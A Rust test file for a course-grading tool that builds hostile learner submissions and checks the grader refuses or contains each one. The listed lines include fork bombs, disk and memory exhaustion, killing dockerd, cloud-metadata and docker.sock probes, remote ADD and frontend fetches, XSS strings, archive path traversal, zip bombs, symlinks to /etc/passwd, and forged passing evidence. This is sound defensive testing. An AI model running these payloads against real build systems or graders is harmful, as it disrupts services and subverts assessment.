//! Submissions that do harm, or try to get what they did not earn.

use super::{Room, append, archives, exercise_of};
use dlearn::evidence::Evidence;
use dlearn::submission::evidence::Block;
use serde_json::Value;
use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Command;
use tar::EntryType;

/// What grading has to say of one.
#[derive(Clone, Copy, Debug)]
pub enum Fate {
    /// It is judged and does not pass.
    NotYet,
    /// It is judged, one way or the other: it does nothing to anybody else.
    Judged,
    /// It is judged and does not pass, and a note says this.
    Noted(&'static str),
    /// Nothing of it is built: a refusal in its Dockerfile says this.
    NotBuilt(&'static str),
    /// It is not taken in, and the reason says this.
    NotTaken(&'static str),
}

use Fate::{Judged, NotBuilt, NotTaken, NotYet, Noted};

/// One of them: who hands it in, which exercise it is about, and what is to become of it.
pub struct Hostile {
    pub name: &'static str,
    pub id: &'static str,
    pub fate: Fate,
    make: Make,
}

/// Makes a submission in its exercise's folder, or, where it is about none, in the class's.
type Make = fn(&Room, &Path);

/// A right answer to E01 whose Dockerfile goes on with this line.
const LINES: [(&str, &str, Fate); 27] = [
    ("fork-bomb", "RUN b() { b | b & }; b; sleep 20; false", NotYet),
    ("memory-hog", "RUN tail /dev/zero", NotYet),
    ("disk-filler", "RUN dd if=/dev/zero of=/big bs=1M", NotYet),
    ("endless-build", "RUN while true; do :; done", NotYet),
    ("endless-output", "RUN yes", NotYet),
    ("escapes", r"RUN printf '\033]0;pwned\007\033[2Jgone\n' && exit 7", NotYet),
    ("engine-killer", "RUN kill -9 -1; killall dockerd containerd; false", NotYet),
    ("cache-poisoner", "RUN --mount=type=cache,target=/cache echo poison > /cache/poison; false", NotYet),
    ("neighbour", "RUN wget -T 3 -q -O /dev/null http://172.17.0.1/ && echo reached || exit 9", NotYet),
    ("metadata", "RUN wget -T 3 -q -O /dev/null http://169.254.169.254/ && echo reached || exit 9", NotYet),
    (
        "socket-seeker",
        r"RUN find / \( -name docker.sock -o -name containerd.sock \) 2>/dev/null | grep . || exit 9",
        NotYet,
    ),
    ("a-million-files", "RUN mkdir /m && i=0 && while [ $i -lt 1000000 ]; do : > /m/$i; i=$((i+1)); done", Judged),
    ("host-network", "RUN --network=host wget -T 3 -q -O /dev/null http://127.0.0.1:2375/", NotBuilt("network")),
    ("insecure", "RUN --security=insecure mount -t tmpfs x /mnt", NotBuilt("security")),
    ("adds-url", "ADD https://example.com/x /x", NotBuilt("https://example.com/x")),
    ("adds-link-local", "ADD http://169.254.169.254/latest/meta-data /x", NotBuilt("169.254.169.254")),
    ("adds-git", "ADD https://example.com/x.git#main /x", NotBuilt("example.com")),
    ("adds-spelt-otherwise", "ARG A=http\nADD ${A}://example.com/x /x", NotBuilt("://example.com/x")),
    ("other-base", "FROM example.com/base:1", NotBuilt("example.com/base:1")),
    ("copies-from-elsewhere", "COPY --from=example.com/base:1 /x /x", NotBuilt("example.com/base:1")),
    ("mounts-from-elsewhere", "RUN --mount=from=example.com/base:1,target=/x true", NotBuilt("example.com/base:1")),
    ("base-by-argument", "ARG X=example.com/base\nFROM ${X}:1", NotBuilt("FROM")),
    // What a container does, rather than a build.
    ("forks-in-its-container", r#"CMD ["sh", "-c", "b() { b | b & }; b; httpd -f -p 8080 -h /site"]"#, Judged),
    (
        "fills-in-its-container",
        r#"CMD ["sh", "-c", "httpd -p 8080 -h /site; dd if=/dev/zero of=/big bs=1M; sleep 99"]"#,
        Judged,
    ),
    ("floods-its-log", r#"CMD ["yes"]"#, NotYet),
    ("never-answers", r#"CMD ["nc", "-lk", "-p", "8080", "-e", "sleep", "3600"]"#, NotYet),
    ("health-bomb", "HEALTHCHECK --interval=1s CMD b() { b | b & }; b", Judged),
];

/// All of them.
pub fn all() -> Vec<Hostile> {
    let lines = LINES.map(|(name, _, fate)| Hostile { name, id: "E01", fate, make: with_line });
    let others: [(&str, &str, Fate, Make); 32] = [
        ("frontend", "E01", NotBuilt("syntax"), |_, folder| {
            edit(folder, "Dockerfile", |text| format!("# syntax=example.com/evil:1\n{text}"));
        }),
        ("many-refusals", "E01", NotBuilt("http://example.com/"), |_, folder| {
            append(folder, &"ADD http://example.com/x /x\n".repeat(8_000));
        }),
        ("too-long", "E01", NotBuilt("256 KiB"), |_, folder| append(folder, &"# nothing\n".repeat(40_000))),
        ("doubling", "E01", Judged, |_, folder| {
            append(folder, &format!("ENV A=xxxxxxxxxxxxxxxx\n{}", "ENV A=$A$A\n".repeat(60)));
        }),
        ("endless-instructions", "E01", Judged, |_, folder| append(folder, &"ENV A=1\n".repeat(20_000))),
        ("patterns", "E01", Judged, |_, folder| {
            fs::write(folder.join(".dockerignore"), format!("{}b\n", "**/*a*/".repeat(40)).repeat(200)).unwrap();
        }),
        ("fills-the-report", "E01", NotYet, |_, folder| {
            fs::write(folder.join("token"), "\u{1b}]0;pwned\u{7}<script>alert(1)</script>".repeat(200_000)).unwrap();
        }),
        ("invisible", "E01", NotYet, |_, folder| append(folder, "RUN echo \u{202e}\u{1b}[31mpassed\u{7} >&2; exit 3")),
        ("ignores-sigterm", "N08", NotYet, |_, folder| {
            fs::write(folder.join("till.sh"), "#!/bin/sh\ntrap '' TERM\nwhile :; do :; done\n").unwrap();
        }),
        ("pretends-to-answer", "S01", NotYet, |_, folder| remove_dockerfiles(folder)),
        // Who they say they are, and what they say was found.
        ("copied", "E01", Noted("the token is that of e01-1"), |room, folder| {
            fs::write(folder.join("token"), room.token("e01-1", "E01")).unwrap();
        }),
        ("another-name", "E01", Noted("they say"), |room, folder| {
            fs::remove_file(folder.join("Dockerfile")).unwrap();
            claim(room, folder, "e01-1", true);
        }),
        ("forged-evidence", "E01", Noted("what was found here counts"), |room, folder| {
            fs::write(folder.join("Dockerfile"), "FROM busybox:1.36\n").unwrap();
            forge(room, folder, "forged-evidence");
        }),
        ("nested-manifest", "E01", Noted("was not used"), |_, folder| {
            fs::remove_file(folder.join("Dockerfile")).unwrap();
            fs::write(beside(folder, "dlearn-submission.json"), "[".repeat(200_000)).unwrap();
        }),
        ("=1+1", "E01", NotYet, |_, folder| append(folder, "RUN echo '=cmd|calc'; false")),
        ("<img src=x onerror=alert(1)>", "E01", NotYet, |_, folder| {
            append(folder, "RUN echo '<script>alert(1)</script>'; false")
        }),
        // Folders with other things than files.
        ("linked", "E01", NotTaken("token"), |_, folder| in_place_of(folder, "token", "/etc/passwd")),
        ("linked-dockerfile", "E01", NotTaken("Dockerfile"), |_, folder| {
            in_place_of(folder, "Dockerfile", "/etc/passwd")
        }),
        ("linked-folder", "E01", NotTaken("E01-first-dockerfile"), |_, folder| {
            fs::remove_dir_all(folder).unwrap();
            symlink("/etc", folder).unwrap();
        }),
        ("pipe", "E01", NotTaken("pipe"), |_, folder| {
            assert!(Command::new("mkfifo").arg(folder.join("pipe")).status().unwrap().success());
        }),
        ("no-utf-8", "E01", NotTaken("UTF-8"), |_, folder| {
            fs::write(folder.join(OsStr::from_bytes(b"caf\xe9")), "").unwrap();
        }),
        ("control-characters", "E01", NotTaken("invisible"), |_, folder| {
            fs::write(folder.join("\u{1b}[2Jgone\n"), "").unwrap();
        }),
        // Archives.
        ("escaping", "", NotTaken(".."), |_, class| {
            archives::with_names(&class.join("escaping.tar"), &[b"../../escaped"])
        }),
        ("absolute", "", NotTaken("absolute"), |_, class| {
            archives::with_names(&class.join("absolute.tar"), &[b"/tmp/dlearn-escaped"]);
        }),
        ("twice", "", NotTaken("twice"), |_, class| {
            archives::with_names(&class.join("twice.tar"), &[b"E01-first-dockerfile/a", b"./E01-first-dockerfile/./a"]);
        }),
        ("hard-link", "", NotTaken("link"), |_, class| {
            archives::with_kind(&class.join("hard-link.tar"), EntryType::Link, "/etc/passwd");
        }),
        ("device", "", NotTaken("token"), |_, class| {
            archives::with_kind(&class.join("device.tar"), EntryType::Block, "");
        }),
        ("many-entries", "", NotTaken("20"), |_, class| {
            archives::with_many(&class.join("many-entries.tar.gz"), 100_000)
        }),
        ("bomb", "", NotTaken("becomes more than"), |_, class| archives::bomb(&class.join("bomb.tar.gz"))),
        ("zip-bomb", "", NotTaken("becomes more than"), |_, class| archives::zip_bomb(&class.join("zip-bomb.zip"))),
        ("zip-escaping", "", NotTaken(".."), |_, class| {
            archives::zip_with(&class.join("zip-escaping.zip"), "../../escaped", None);
        }),
        ("zip-link", "", NotTaken("link"), |_, class| {
            archives::zip_with(&class.join("zip-link.zip"), "E01-first-dockerfile/token", Some("/etc/passwd"));
        }),
    ];
    let others = others.map(|(name, id, fate, make)| Hostile { name, id, fate, make });
    lines.into_iter().chain(others).collect()
}

impl Hostile {
    /// In what its result differs from what is to become of it.
    pub fn fault(&self, graded: &Value) -> Option<String> {
        let exercise = || exercise_of(graded, self.id);
        let state = || exercise()["state"].as_str().unwrap_or_default().to_owned();
        let fine = match self.fate {
            NotYet => state() == "not_yet",
            Judged => ["not_yet", "passed"].contains(&&*state()),
            Noted(note) => {
                state() == "not_yet" && format!("{} {}", graded["notes"], exercise()["notes"]).contains(note)
            }
            NotBuilt(words) => {
                state() == "not_judged" && exercise()["rounds"][0]["refusals"].to_string().contains(words)
            }
            NotTaken(words) => graded["refused"].as_str().is_some_and(|why| why.contains(words)),
        };
        let told: String = format!("{graded:#}").chars().take(3000).collect();
        (!fine).then(|| format!("{} is not {:?}: {told}", self.name, self.fate))
    }

    /// Hands it in.
    pub fn hand_in(&self, room: &Room) {
        match self.id {
            "" => (self.make)(room, &room.class()),
            id => (self.make)(room, &room.solved(self.name, id, self.name)),
        }
    }
}

fn with_line(_: &Room, folder: &Path) {
    let name = folder.parent().and_then(Path::file_name).unwrap();
    let (_, line, _) = LINES.iter().find(|(of, ..)| name == *of).unwrap();
    append(folder, line);
}

fn edit(folder: &Path, file: &str, edit: impl Fn(&str) -> String) {
    let text = fs::read_to_string(folder.join(file)).unwrap();
    fs::write(folder.join(file), edit(&text)).unwrap();
}

fn in_place_of(folder: &Path, file: &str, to: &str) {
    fs::remove_file(folder.join(file)).unwrap();
    symlink(to, folder.join(file)).unwrap();
}

/// A file beside the exercise's folder, at the top of the submission.
fn beside(folder: &Path, file: &str) -> std::path::PathBuf {
    folder.parent().unwrap().join(file)
}

fn remove_dockerfiles(folder: &Path) {
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        match path.is_dir() {
            true => remove_dockerfiles(&path),
            false if path.ends_with("Dockerfile") => fs::write(&path, "FROM scratch\n").unwrap(),
            false => {}
        }
    }
}

/// A manifest in somebody's name, with their token.
fn claim(room: &Room, folder: &Path, whose: &str, passed: bool) {
    let manifest = serde_json::json!({
        "schema": "dlearn/submission/1", "course": room.course.outline.course, "learner": whose,
        "exercises": [{
            "id": "E01", "folder": "E01-first-dockerfile", "token": room.token(whose, "E01"), "rounds": 1,
            "rounds_passed": [1], "passed": passed,
        }],
    });
    fs::write(beside(folder, "dlearn-submission.json"), manifest.to_string()).unwrap();
}

/// Evidence that everything passed.
fn forge(room: &Room, folder: &Path, whose: &str) {
    let entry = &room.course.exercises["E01"];
    let rounds = entry.rounds(&room.course.recipes, &room.token(whose, "E01"), &str::to_owned).unwrap();
    let mut block = Block::new(&rounds[0], None, &[], &Evidence::new());
    block.checks = rounds[0].checks.iter().map(|check| (check.id.clone(), "pass".to_owned())).collect();
    fs::write(beside(folder, "SOLUTION.md"), block.markdown()).unwrap();
}
